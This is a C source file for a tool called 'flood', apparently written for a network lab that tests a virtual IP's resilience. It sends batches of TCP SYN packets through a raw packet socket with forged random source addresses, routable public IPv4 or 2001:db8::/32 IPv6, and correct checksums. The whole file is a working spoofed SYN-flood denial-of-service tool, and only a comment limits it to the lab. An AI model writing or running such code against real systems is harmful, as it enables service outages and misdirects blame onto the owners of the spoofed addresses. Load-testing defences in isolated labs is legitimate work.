/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * flood IFINDEX-NAME SOURCE-MAC DEST-MAC VIP PORT COUNT: send COUNT TCP SYNs from random sources (IPv4) or random hosts of 2001:db8::/32
 * (IPv6).
 *
 * For the lab, inside its namespaces. Frames leave through a packet socket in batches; every checksum is right.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define BATCH 64
#define FRAME 74 /* Ethernet, IPv6, TCP; IPv4 frames are shorter */

struct target {
	uint8_t smac[6], dmac[6];
	uint8_t addr[16];
	bool v6;
	uint16_t port;
};

static uint64_t seed = 88172645463325252ULL;

static uint32_t draw(void)
{
	seed ^= seed << 13;
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return seed >> 16;
}

static uint32_t sum(const void *data, size_t size, uint32_t total)
{
	const uint8_t *byte = data;

	for (size_t i = 0; i + 1 < size; i += 2)
		total += byte[i] << 8 | byte[i + 1];
	return total;
}

static uint16_t fold(uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return htons(~total);
}

/* A unicast source that is neither the lab's nor special: 11.0.0.0 .. 126.255.255.255. */
static uint32_t random_v4(void)
{
	return htonl((11 + draw() % 116) << 24 | (draw() & 0xffffff));
}

static size_t write_v4(uint8_t *at, const struct target *target)
{
	struct iphdr ip = {.version = 4, .ihl = 5, .tot_len = htons(40), .ttl = 64, .protocol = IPPROTO_TCP, .saddr = random_v4()};

	memcpy(&ip.daddr, target->addr, 4);
	ip.check = fold(sum(&ip, sizeof(ip), 0));
	memcpy(at, &ip, sizeof(ip));
	return sizeof(ip);
}

static size_t write_v6(uint8_t *at, const struct target *target)
{
	struct ip6_hdr ip = {.ip6_flow = htonl(6U << 28), .ip6_plen = htons(20), .ip6_nxt = IPPROTO_TCP, .ip6_hlim = 64};
	uint32_t source[4] = {htonl(0x20010db8), draw(), draw(), draw()};

	memcpy(&ip.ip6_src, source, 16);
	memcpy(&ip.ip6_dst, target->addr, 16);
	memcpy(at, &ip, sizeof(ip));
	return sizeof(ip);
}

/* Writes one frame; returns its length. */
static size_t write_frame(uint8_t *frame, const struct target *target)
{
	struct tcphdr tcp = {
	    .source = htons(1024 + draw() % 60000), .dest = target->port, .seq = draw(), .doff = 5, .syn = 1, .window = 0xffff};
	uint16_t type = htons(target->v6 ? ETHERTYPE_IPV6 : ETHERTYPE_IP);
	uint8_t *ip = frame + ETH_HLEN;
	size_t length = target->v6 ? write_v6(ip, target) : write_v4(ip, target);

	memcpy(frame, target->dmac, 6);
	memcpy(frame + 6, target->smac, 6);
	memcpy(frame + 12, &type, 2);
	/* the pseudo header: both addresses, the protocol, the length */
	tcp.check = fold(sum(target->v6 ? ip + 8 : ip + 12, target->v6 ? 32 : 8, sum(&tcp, sizeof(tcp), IPPROTO_TCP + sizeof(tcp))));
	memcpy(ip + length, &tcp, sizeof(tcp));
	return ETH_HLEN + length + sizeof(tcp);
}

/* Sends `count` frames (at most BATCH); returns 0 or -errno. */
static int send_batch(int fd, const struct target *target, unsigned count)
{
	static uint8_t frames[BATCH][FRAME];
	struct iovec iov[BATCH];
	struct mmsghdr msgs[BATCH] = {};

	for (unsigned i = 0; i < count; i++) {
		iov[i] = (struct iovec){frames[i], write_frame(frames[i], target)};
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	for (unsigned sent = 0; sent < count;) {
		int n = sendmmsg(fd, msgs + sent, count - sent, 0);

		if (n < 0 && errno != ENOBUFS && errno != EAGAIN)
			return -errno;
		sent += n > 0 ? n : 0;
	}
	return 0;
}

static bool parse_mac(const char *text, uint8_t ret_mac[6])
{
	return sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", ret_mac, ret_mac + 1, ret_mac + 2, ret_mac + 3, ret_mac + 4, ret_mac + 5) == 6;
}

static int open_packet(const char *device)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(device)};
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	if (fd >= 0 && at.sll_ifindex && !bind(fd, (struct sockaddr *)&at, sizeof(at)))
		return fd;
	perror(device);
	return -1;
}

int main(int argc, char **argv)
{
	struct target target = {};
	unsigned long count;
	int fd, err = 0;

	if (argc != 7 || !parse_mac(argv[2], target.smac) || !parse_mac(argv[3], target.dmac)) {
		fprintf(stderr, "usage: flood DEVICE SOURCE-MAC DEST-MAC VIP PORT COUNT\n");
		return 2;
	}
	target.v6 = strchr(argv[4], ':');
	if (inet_pton(target.v6 ? AF_INET6 : AF_INET, argv[4], target.addr) != 1)
		return 2;
	target.port = htons(atoi(argv[5]));
	count = strtoul(argv[6], NULL, 10);
	fd = open_packet(argv[1]);
	if (fd < 0)
		return 1;
	for (unsigned long left = count; left && !err;) {
		unsigned n = left < BATCH ? left : BATCH;

		err = send_batch(fd, &target, n);
		left -= n;
	}
	close(fd);
	if (err)
		fprintf(stderr, "flood: %s\n", strerror(-err));
	else
		printf("%lu SYNs sent\n", count);
	return err ? 1 : 0;
}
